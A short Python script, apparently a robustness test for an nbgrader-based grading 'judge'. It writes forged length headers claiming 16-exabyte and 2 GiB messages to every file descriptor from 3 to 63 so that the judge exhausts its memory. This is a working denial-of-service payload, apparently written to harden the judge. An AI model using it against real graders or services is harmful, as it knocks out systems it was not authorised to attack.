"""Announces a message of 16 exabytes, then of 2 GiB, and sends it.

Would make the judge allocate all memory.

Plain nbgrader: not run there: it aims at our judge, which stands outside.
"""

# %%
import os
import struct

for number in range(3, 64):
    try:
        os.write(number, struct.pack("!iQ", -1, 2**63))
        os.write(number, bytes(2**20))
    except OSError:
        pass
